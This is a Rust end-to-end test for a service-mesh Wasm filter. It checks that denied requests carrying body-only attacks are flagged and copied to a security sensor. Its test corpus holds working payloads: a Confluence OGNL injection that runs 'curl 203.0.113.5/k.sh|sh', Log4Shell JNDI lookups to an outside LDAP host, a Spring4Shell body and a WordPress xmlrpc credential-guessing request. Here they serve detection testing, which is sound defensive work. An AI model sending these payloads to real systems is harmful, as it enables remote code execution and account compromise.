#![cfg(feature = "e2e")]
//! envoy-config/istio/body-hold/'s EnvoyFilter in the real Envoy, as an Istio sidecar gets it:
//! the extension config istiod serves by ECDS (taken from the manifest by the Istio CRD oracle,
//! `scripts/validate_istio.py --dump-extension-configs`), its `oci://` module swapped for the
//! local file as the istio-agent does, behind an HTTP filter that reads it by
//! `config_discovery` (envoy-config/e2e/istio_body_hold.yaml).
//!
//! What it shows: attacks carried only in a body, on requests the allowlist denies, are flagged
//! and copied to the sensor with their body. Under a WasmPlugin the module cannot hold the body
//! (Envoy's `allow_on_headers_stop_iteration` cannot be set, so `hold_for_body` stays off): the
//! same extension config without the option and without `hold_for_body` copies none of them,
//! which is the gap the EnvoyFilter closes.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::process::Command;
use std::sync::OnceLock;
use std::time::Duration;

use meshsight_rig::{send, Collector, EchoUpstream, Envoy, HttpRequest, RecordedRequest, Sensor};
use serde_json::Value;

const FORM: &str = "application/x-www-form-urlencoded";

/// The EnvoyFilter's extension config: (ECDS resource name, typed_config), through the Python
/// oracle that validates the manifest against Istio's CRD schemas first (once per run).
fn extension_config() -> (String, Value) {
    static CONFIG: OnceLock<(String, Value)> = OnceLock::new();
    CONFIG.get_or_init(read_extension_config).clone()
}

fn read_extension_config() -> (String, Value) {
    let out = std::env::temp_dir().join(format!(
        "meshsight-ecds-{}-{}",
        std::process::id(),
        meshsight_rig::free_port().unwrap()
    ));
    let python = meshsight_rig::tools_python().unwrap_or_else(|e| panic!("{e}"));
    let status = Command::new(python)
        .arg(meshsight_rig::workspace_root().join("scripts/validate_istio.py"))
        .arg("--dump-extension-configs")
        .arg(&out)
        .status()
        .expect("scripts/validate_istio.py runs");
    assert!(status.success(), "the Istio manifests must validate");
    let path: PathBuf = out.join("meshsight-body-hold.json");
    let doc: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let _ = std::fs::remove_dir_all(&out);
    let name = doc["name"].as_str().unwrap().to_string();
    (name, doc["typed_config"].clone())
}

/// What the istio-agent does before Envoy sees the config: the remote `oci://` module becomes a
/// local file (after checking its digest).
fn as_the_agent_hands_it_over(mut typed_config: Value) -> Value {
    let code = &mut typed_config["config"]["vm_config"]["code"];
    let uri = code["remote"]["http_uri"]["uri"]
        .as_str()
        .unwrap_or_default();
    assert!(
        uri.starts_with("oci://"),
        "the manifest fetches an oci:// image: {uri}"
    );
    assert!(
        code["remote"]["sha256"]
            .as_str()
            .is_some_and(|s| s.len() == 64),
        "the manifest pins the image digest"
    );
    *code = serde_json::json!({"local": {"filename": meshsight_rig::wasm_path("meshsight")}});
    typed_config
}

/// The config a WasmPlugin would give the same policy: no Envoy option, so no `hold_for_body`.
fn as_a_wasm_plugin_would(mut typed_config: Value) -> Value {
    let config = &mut typed_config["config"];
    config
        .as_object_mut()
        .unwrap()
        .remove("allow_on_headers_stop_iteration");
    let text = config["configuration"]["value"].as_str().unwrap();
    let mut policy: Value = serde_json::from_str(text).unwrap();
    policy["mirror"]["hold_for_body"] = Value::Bool(false);
    config["configuration"]["value"] = Value::String(policy.to_string());
    typed_config
}

/// One request of the corpus: (id, method, target, content type, body, the signature category
/// it must be flagged with, or None for a benign one).
type Case = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    String,
    Option<&'static str>,
);

/// Attacks whose payload is only in the body, each to a path the manifest's allowlist denies,
/// from public proofs of concept, and benign denied bodies that must not be copied.
fn corpus() -> Vec<Case> {
    let ognl = "queryString=aaaa%5Cu0027%2B%7BClass.forName%28%27javax.script.ScriptEngineManager%27%29.newInstance%28%29.getEngineByName%28%27js%27%29.eval%28%27var+x%3Dnew+java.lang.ProcessBuilder%28%29%3Bx.command%28%5B%22sh%22%2C%22-c%22%2C%22curl+203.0.113.5%2Fk.sh%7Csh%22%5D%29%3Bx.start%28%29%27%29%7D%2B%5Cu0027";
    vec![
        (
            "ognl-createpage",
            "POST",
            "/pages/createpage-entervariables.action",
            FORM,
            ognl.to_string(),
            Some("confluence_ognl"),
        ),
        (
            "ognl-doenter",
            "POST",
            "/pages/doenterpagevariables.action",
            FORM,
            ognl.to_string(),
            Some("confluence_ognl"),
        ),
        (
            "log4shell-json",
            "POST",
            "/api/v1/login",
            "application/json",
            r#"{"username":"${jndi:ldap://203.0.113.5:1389/Exploit}","password":"x"}"#.to_string(),
            Some("log4shell"),
        ),
        (
            "log4shell-form",
            "POST",
            "/login",
            FORM,
            "username=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D&password=x".to_string(),
            Some("log4shell"),
        ),
        (
            "spring4shell",
            "POST",
            "/greeting",
            FORM,
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp".to_string(),
            Some("spring4shell"),
        ),
        (
            "xmlrpc",
            "POST",
            "/xmlrpc.php",
            "text/xml",
            "<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><string>admin</string></value><value><string>pass1</string></value></data></array></value></member></struct></value></data></array></value></param></params></methodCall>".to_string(),
            Some("wordpress_xmlrpc"),
        ),
        (
            "benign-form",
            "POST",
            "/api/v1/newsletter",
            FORM,
            "email=ana%40example.com&topics=shoes".to_string(),
            None,
        ),
        (
            "benign-json",
            "POST",
            "/api/v1/reviews",
            "application/json",
            r#"{"product":"1234","stars":5,"text":"fits well"}"#.to_string(),
            None,
        ),
    ]
}

/// Starts Envoy with `typed_config` served by (file) ECDS, sends the corpus and one allowed
/// request; returns (status by id, the sensor's copies by request id).
fn run(
    name: &str,
    typed_config: &Value,
) -> (BTreeMap<String, u16>, BTreeMap<String, RecordedRequest>) {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let collector = Collector::start();
    let envoy = Envoy::builder("envoy-config/e2e/istio_body_hold.yaml")
        .upstream(&upstream)
        .sensor(&sensor)
        .collector(&collector)
        .var("ECDS_NAME", name)
        .var("ECDS_TYPED_CONFIG", typed_config.to_string())
        .render_file("ecds.yaml", "envoy-config/e2e/istio_body_hold_ecds.yaml")
        .start()
        .unwrap_or_else(|err| panic!("Envoy must load the EnvoyFilter's extension config: {err}"));

    let allowed = send(
        envoy.port(),
        &HttpRequest::get("/api/v1/products/42")
            .header("host", "checkout.shop.svc.cluster.local")
            .header("x-request-id", "allowed"),
    );
    assert_eq!(allowed.status, 200, "the manifest's allowlist allows this");

    let mut statuses = BTreeMap::new();
    for (id, method, target, content_type, body, _) in corpus() {
        let response = send(
            envoy.port(),
            &HttpRequest::new(method, target)
                .header("host", "checkout.shop.svc.cluster.local")
                .header("x-request-id", id)
                .header("content-type", content_type)
                .body(body.as_bytes())
                .timeout(Duration::from_secs(5)),
        );
        statuses.insert(id.to_string(), response.status);
    }
    // Copies are dispatched on the root's tick; the attacks are expected, nothing else is.
    let attacks = corpus().iter().filter(|c| c.5.is_some()).count();
    sensor.wait_for(attacks, Duration::from_secs(5));
    std::thread::sleep(Duration::from_millis(300));
    let copies = sensor
        .requests()
        .into_iter()
        .filter_map(|r| {
            r.header("x-request-id")
                .map(|id| (id.to_string(), r.clone()))
        })
        .collect();
    assert_eq!(
        upstream.requests().len(),
        1,
        "only the allowed request reaches the workload"
    );
    (statuses, copies)
}

#[test]
fn body_borne_attacks_on_denied_requests_are_flagged_and_copied_with_their_body() {
    let (name, typed_config) = extension_config();
    let (statuses, copies) = run(&name, &as_the_agent_hands_it_over(typed_config));
    for (id, _, target, _, body, category) in corpus() {
        assert_eq!(
            statuses[id], 403,
            "{id}: {target} is denied by the allowlist"
        );
        match category {
            Some(category) => {
                let copy = copies
                    .get(id)
                    .unwrap_or_else(|| panic!("{id}: the attack in the body must be copied"));
                let flagged = copy.header("x-meshsight-mirror-signatures").unwrap_or("");
                assert!(
                    flagged.split(',').any(|c| c == category),
                    "{id}: flagged as {category}, got {flagged:?}"
                );
                assert_eq!(copy.body_text(), body, "{id}: the copy carries the body");
            }
            None => assert!(
                !copies.contains_key(id),
                "{id}: a benign body is not copied"
            ),
        }
    }
}

#[test]
fn the_same_policy_as_a_wasm_plugin_cannot_see_them() {
    let (name, typed_config) = extension_config();
    let config = as_a_wasm_plugin_would(as_the_agent_hands_it_over(typed_config));
    let (statuses, copies) = run(&name, &config);
    for (id, _, target, _, _, _) in corpus() {
        assert_eq!(statuses[id], 403, "{id}: {target} is still denied");
        assert!(
            !copies.contains_key(id),
            "{id}: without the held body the module never sees the payload"
        );
    }
}

/// The misconfiguration the hold timeout exists for: `hold_for_body` on, but the proxy without
/// `allow_on_headers_stop_iteration` (as a WasmPlugin would run it). Envoy never hands the held
/// body over; without the timeout every denied POST waited for Envoy's idle timeout.
fn without_the_option(mut typed_config: Value) -> Value {
    typed_config["config"]
        .as_object_mut()
        .unwrap()
        .remove("allow_on_headers_stop_iteration");
    typed_config
}

#[test]
fn without_the_option_every_held_request_is_answered_within_the_hold_timeout() {
    let (name, typed_config) = extension_config();
    let config = without_the_option(as_the_agent_hands_it_over(typed_config));
    let policy: Value =
        serde_json::from_str(config["config"]["configuration"]["value"].as_str().unwrap()).unwrap();
    assert_eq!(policy["mirror"]["hold_for_body"], true);
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let collector = Collector::start();
    let envoy = Envoy::builder("envoy-config/e2e/istio_body_hold.yaml")
        .upstream(&upstream)
        .sensor(&sensor)
        .collector(&collector)
        .var("ECDS_NAME", name)
        .var("ECDS_TYPED_CONFIG", config.to_string())
        .render_file("ecds.yaml", "envoy-config/e2e/istio_body_hold_ecds.yaml")
        .start()
        .unwrap_or_else(|err| panic!("Envoy must start: {err}"));
    // The default hold_timeout_ms (250) and the 10 ms hold tick, with room for a loaded machine;
    // without the timeout these requests got no answer at all.
    let bound = Duration::from_millis(250 + 10 + 1_000);
    let mut slowest = Duration::ZERO;
    for i in 0..8 {
        let started = std::time::Instant::now();
        let response = send(
            envoy.port(),
            &HttpRequest::post("/admin/users")
                .header("host", "checkout.shop.svc.cluster.local")
                .header("x-request-id", &format!("denied-{i}"))
                .header("content-type", FORM)
                .body("name=eve&role=admin")
                .timeout(Duration::from_secs(8)),
        );
        let took = started.elapsed();
        slowest = slowest.max(took);
        assert_eq!(response.status, 403, "denied-{i}");
        assert!(
            took < bound,
            "denied-{i} answered after {took:?}, bound {bound:?}"
        );
    }
    println!("slowest denied POST answered in {slowest:?}");
    // The worker noticed that held bodies never come, stopped holding and said so once.
    assert_eq!(
        envoy.settled_stat("meshsight_mirror_hold_stopped", 1, Duration::from_secs(5)),
        Some(1),
        "one worker stopped holding"
    );
    assert_eq!(
        envoy.stat("meshsight_mirror_hold_timeouts"),
        Some(3),
        "three bodyless timeouts, then no more holds"
    );
    assert!(
        envoy.wait_for_log("stops holding", Duration::from_secs(2)),
        "{}",
        envoy.log_tail(30)
    );
    assert!(
        upstream.requests().is_empty(),
        "nothing denied reached the workload"
    );
}
